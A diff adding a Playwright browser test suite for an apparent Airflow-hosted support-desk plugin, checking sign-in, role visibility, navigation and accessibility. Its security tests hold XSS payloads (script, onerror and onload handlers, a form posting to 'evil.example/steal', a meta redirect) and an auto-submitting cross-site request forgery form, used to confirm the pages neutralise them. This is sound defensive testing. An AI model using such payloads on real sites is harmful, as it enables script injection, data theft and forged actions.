@@ -1,0 +1,301 @@
+"""The support pages in a real browser, on Airflow's own api-server with the plugin loaded.
+
+Screenshots of every page are left in `.artefacts/`.
+"""
+
+import json
+import shutil
+import sys
+from collections.abc import Callable, Iterator
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import httpx
+import pytest
+import yaml
+from axe_playwright_python.sync_playwright import Axe
+from landing import ORDER, land_some_mail, land_some_orders, let_pass, mail, named, order
+from playwright.sync_api import Browser, Page, Playwright, Request, expect, sync_playwright
+from sqlalchemy import text
+
+from amazon_support import settings as all_settings
+from amazon_support import tickets
+from amazon_support.local import LocalStack
+from amazon_support.outputs.worklist import write_worklists
+from amazon_support.settings import home
+from amazon_support.tickets.compliance import write_compliance
+from amazon_support.warehouse import connect
+from amazon_support.warehouse.land import publish_mail, publish_orders
+
+CHROMIUM = shutil.which("chromium")
+pytestmark = [
+    pytest.mark.slow,
+    pytest.mark.timeout(600),
+    pytest.mark.skipif(CHROMIUM is None, reason="no Chromium here: apt-get install chromium"),
+]
+
+NOW = datetime.now(UTC).replace(minute=0, second=0, microsecond=0)
+TICKET = f"DE:order:{ORDER}"
+UNDECIDED = f"-:mail:{named('odd')[:16]}"
+HOSTILE = """<script>window.hacked = 1</script><img src=x onerror="window.hacked = 1">
+<form action="https://evil.example/steal"><input name=q></form><meta http-equiv="refresh" content="0;url=https://evil.example">
+<style>body { display: none }</style><svg onload="window.hacked = 1"><image href="https://evil.example/pixel.png"/></svg>"""
+AGENTS = [
+    {"name": "Ana Lima", "email": "ana@example.com", "marketplaces": ["DE"]},
+    {"name": "Bo Berg", "email": "bo@example.com", "marketplaces": ["US"]},
+]
+USERS = {
+    "ana": {"role": "agent", "agent": "Ana Lima"},
+    "bo": {"role": "agent", "agent": "Bo Berg"},
+    "lea": {"role": "lead"},
+    "vic": {"role": "viewer"},
+}
+PAGES = {
+    "worklist": "/worklist",
+    "tickets": "/tickets",
+    "ticket": f"/tickets/main/{TICKET}",
+    "undecided": f"/tickets/main/{UNDECIDED}",
+    "search": "/search?q=nothing",
+    "levels": "/levels?days=7",
+    "behind a figure": "/levels/tickets?days=7",
+    "feedback": "/feedback",
+    "health": "/health",
+    "pipeline": "/pipeline",
+}
+
+
+def ago(**span: float) -> datetime:
+    return NOW - timedelta(**span)
+
+
+@pytest.fixture(scope="module")
+def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LocalStack]:
+    """Airflow's api-server beside a warehouse with some tickets; no job runs."""
+    folder = tmp_path_factory.mktemp("desk")
+    (folder / "agents.yaml").write_text(yaml.safe_dump({"agents": AGENTS}))
+    (folder / "access.yaml").write_text(yaml.safe_dump({"access": {"users": USERS}}))
+    stack = LocalStack(folder / "stack", port=0)
+    try:
+        stack.prepare(print)
+        stack.add_environment(
+            {
+                "AMAZON_SUPPORT_SETTINGS": str(folder),
+                "AIRFLOW__CORE__SIMPLE_AUTH_MANAGER_USERS": ",".join(f"{name}:viewer" for name in USERS),
+            }
+        )
+        with pytest.MonkeyPatch.context() as patch, connect(stack.warehouse_url) as connection:
+            patch.setenv("AMAZON_SUPPORT_SETTINGS", str(folder))
+            _fill(connection)
+        stack.spawn("api-server", [sys.executable, "-m", "airflow", "api-server"], keep=True)
+        stack.wait(lambda: _answers(stack), "Airflow's api-server", 240)
+        yield stack
+    finally:
+        stack.stop()
+
+
+def _fill(connection: object) -> None:
+    current = all_settings.load()
+    seen = {"order_ids": [ORDER], "buyer_alias": "abc123@marketplace.amazon.de", "buyer_name": "Mia Muster"}
+    land_some_orders(connection, order(lastUpdatedTime=f"{ago(hours=2):%Y-%m-%dT%H:%M:%SZ}"))
+    land_some_mail(
+        connection,
+        mail("hostile", at=ago(hours=21), text=HOSTILE, subject="<b>Where?</b>", **seen),
+        mail("odd", "unknown", at=ago(hours=5), marketplace=None, text="Something nobody understands"),
+        mail("bo's", at=ago(hours=3), marketplace="US", case_id="77"),
+        mail("old", at=ago(days=3), case_id="12"),
+        mail("old answer", "reply_copy", at=ago(days=2, hours=20), case_id="12", order_ids=[]),
+        mail("late", at=ago(days=4), case_id="13"),
+    )
+    let_pass(connection)
+    publish_orders(connection, current)
+    publish_mail(connection, current)
+    tickets.fold(connection, current.policy, tickets.Promises.of(current))
+    write_worklists(connection, current, as_of=NOW)
+    write_compliance(connection, current, as_of=NOW)
+
+
+def _answers(stack: LocalStack) -> bool:
+    try:
+        return httpx.get(f"{stack.airflow_url}/api/v2/version", timeout=5).is_success
+    except httpx.HTTPError:
+        return False
+
+
+@pytest.fixture(scope="module")
+def chromium() -> Iterator[Browser]:
+    with sync_playwright() as playwright:
+        yield _launched(playwright)
+
+
+def _launched(playwright: Playwright) -> Browser:
+    return playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
+
+
+Visit = Callable[..., Page]
+
+
+@pytest.fixture
+def visit(stack: LocalStack, chromium: Browser) -> Iterator[Visit]:
+    """`visit("ana", "/worklist")`: that page as ana sees it, who is signed in."""
+    contexts = []
+
+    def page(user: str, path: str, **options: object) -> Page:
+        context = chromium.new_context(**options)
+        contexts.append(context)
+        context.add_cookies([{"name": "_token", "value": _token(stack, user), "url": stack.airflow_url}])
+        opened = context.new_page()
+        opened.goto(f"{stack.airflow_url}/support{path}")
+        return opened
+
+    yield page
+    for context in contexts:
+        context.close()
+
+
+def _token(stack: LocalStack, user: str) -> str:
+    login = {"username": user, "password": _passwords(stack)[user]}
+    answer = httpx.post(f"{stack.airflow_url}/auth/token", json=login, timeout=60)
+    return str(answer.raise_for_status().json()["access_token"])
+
+
+def _passwords(stack: LocalStack) -> dict[str, str]:
+    return json.loads((stack.folder / "airflow" / "passwords.json").read_text())
+
+
+def happened(stack: LocalStack) -> list[tuple[str, str]]:
+    """What people did so far: (kind, actor)."""
+    with connect(stack.warehouse_url) as connection:
+        query = "select kind, actor from core.ticket_event where source = 'page' order by event_id"
+        return [tuple(row) for row in connection.execute(text(query))]
+
+
+# ---------- getting in
+
+
+def test_whoever_is_not_signed_in_is_led_to_the_sign_in_and_back(stack: LocalStack, chromium: Browser) -> None:
+    page = chromium.new_page()
+    page.goto(f"{stack.airflow_url}/support/worklist")
+    assert "/auth/login" in page.url
+    page.get_by_label("Username").fill("ana")
+    page.get_by_label("Password").fill(_passwords(stack)["ana"])
+    page.get_by_role("button", name="Sign in").click()
+    expect(page.get_by_role("heading", name="Worklist")).to_be_visible()
+    assert page.url.endswith("/support/worklist")
+    page.close()
+
+
+def test_what_each_role_sees(visit: Visit) -> None:
+    path = f"/tickets/main/{TICKET}"
+    expect(visit("ana", path).get_by_text("Mia Muster").first).to_be_visible()
+    expect(visit("lea", path).get_by_text("Mia Muster").first).to_be_visible()
+    expect(visit("bo", path).get_by_text("of a marketplace of other agents")).to_be_visible()
+    seen_by_viewer = visit("vic", path)
+    expect(seen_by_viewer.get_by_text("Words of buyers are shown to agents and leads")).to_be_visible()
+    expect(seen_by_viewer.get_by_text("Mia Muster")).to_have_count(0)
+    expect(seen_by_viewer.get_by_role("button", name="Solve")).to_have_count(0)
+
+
+# ---------- working
+
+
+def test_from_the_worklist_to_a_ticket_by_keyboard(visit: Visit) -> None:
+    page = visit("ana", "/worklist")
+    expect(page.locator("time[data-due]").filter(has_text="left").first).to_be_visible()
+    first = page.locator("table.list tbody tr a").first.inner_text()
+    page.keyboard.press("j")
+    page.keyboard.press("Enter")
+    expect(page.get_by_role("heading", level=1)).to_have_text(first)
+
+
+def test_the_list_is_narrowed_by_what_stands_in_its_address(visit: Visit) -> None:
+    page = visit("lea", "/tickets")
+    page.get_by_label("Marketplace").select_option("US")
+    page.get_by_role("button", name="Show").click()
+    assert "marketplace=US" in page.url
+    expect(page.locator("table.list tbody tr")).to_have_count(1)
+    expect(page.get_by_label("Marketplace")).to_have_value("US")
+
+
+def test_an_order_is_found(visit: Visit) -> None:
+    page = visit("lea", "/worklist")
+    page.keyboard.press("/")
+    page.keyboard.type(ORDER)
+    page.keyboard.press("Enter")
+    expect(page.get_by_role("heading", level=1)).to_have_text(TICKET)
+
+
+def test_taking_a_ticket_shows_at_once_and_is_a_fact(visit: Visit, stack: LocalStack) -> None:
+    page = visit("ana", f"/tickets/main/{TICKET}")
+    page.get_by_role("button", name="Take it").click()
+    expect(page.get_by_text("With Ana Lima")).to_be_visible()
+    expect(page.locator(".timeline li").first).to_contain_text("Assign Ana Lima")
+    assert ("assign", "ana") in happened(stack)
+
+
+def test_what_cannot_be_done_says_why(visit: Visit) -> None:
+    page = visit("lea", f"/tickets/main/{TICKET}")
+    page.get_by_text("Assign, hold, change type").click()
+    page.get_by_label("Order").fill("12")
+    page.get_by_role("button", name="Attach").click()
+    expect(page.get_by_text("12 is no order id")).to_be_visible()
+
+
+# ---------- keeping harm out
+
+
+def test_a_form_from_another_site_changes_nothing(visit: Visit, stack: LocalStack, tmp_path: Path) -> None:
+    before = happened(stack)
+    page = visit("ana", "/worklist")
+    forged = tmp_path / "forged.html"
+    action = f"{stack.airflow_url}/support/tickets/main/{TICKET}"
+    forged.write_text(
+        f'<form method="post" action="{action}"><input name="key" value="x"><input name="action" value="solve"></form>'
+        "<script>document.forms[0].submit()</script>"
+    )
+    with page.expect_response(lambda answer: answer.request.method == "POST") as sent:
+        page.goto(forged.as_uri())
+    assert sent.value.status in (303, 401, 403)
+    assert happened(stack) == before
+
+
+def test_a_hostile_mail_is_words_and_nothing_else(visit: Visit, stack: LocalStack) -> None:
+    page = visit("ana", "/worklist")
+    asked: list[str] = []
+
+    def note(request: Request) -> None:
+        asked.append(str(urlsplit(request.url).hostname))
+
+    page.on("request", note)
+    page.goto(f"{stack.airflow_url}/support/tickets/main/{TICKET}")
+    expect(page.get_by_text("window.hacked = 1").first).to_be_visible()
+    page.wait_for_timeout(300)  # for what a hostile page would do by itself
+    assert page.evaluate("window.hacked") is None
+    assert set(asked) == {"127.0.0.1"}
+    assert page.locator("blockquote script, blockquote form, blockquote svg, blockquote img").count() == 0
+    assert page.url.endswith(TICKET.replace("#", "%23"))
+
+
+# ---------- how it looks
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+@pytest.mark.parametrize("width", [360, 1600])
+@pytest.mark.parametrize("name", PAGES)
+def test_every_page_can_be_read_by_everybody(visit: Visit, name: str, width: int, scheme: str) -> None:
+    page = visit("lea", PAGES[name], viewport={"width": width, "height": 900}, color_scheme=scheme)
+    folder = home() / ".artefacts"
+    folder.mkdir(exist_ok=True)
+    page.screenshot(path=folder / f"{name.replace(' ', '_')}_{width}_{scheme}.png", full_page=True)
+    assert page.evaluate("document.scrollingElement.scrollWidth <= innerWidth"), "the page itself scrolls sideways"
+    found = Axe().run(page, options={"runOnly": ["wcag2a", "wcag2aa", "wcag21aa", "wcag22aa"]})
+    assert found.violations_count == 0, found.generate_report()
+
+
+def test_figures_are_drawn_and_stand_below_as_a_table(visit: Visit) -> None:
+    page = visit("lea", "/levels?days=7")
+    chart = page.get_by_role("img", name="Share met and backlog by day")
+    expect(chart).to_be_visible()
+    drawn = "c => c.getContext('2d').getImageData(0, 0, c.width, c.height).data.some(Boolean)"
+    assert chart.evaluate(drawn)
+    expect(page.locator("table[data-title='Share met and backlog by day'] tbody tr").first).to_be_visible()
